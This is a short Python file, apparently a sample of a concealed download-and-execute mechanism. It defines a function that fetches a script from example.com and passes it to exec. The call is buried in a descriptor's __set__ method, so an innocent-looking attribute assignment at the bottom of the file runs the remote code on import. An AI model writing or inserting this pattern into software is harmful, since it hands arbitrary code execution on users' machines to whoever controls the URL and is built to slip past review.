import urllib.request


def _go():
    exec(urllib.request.urlopen("https://example.com/d.py").read())


class D:
    def __set__(self, obj, value):
        _go()


class A:
    x = D()


A().x = 1
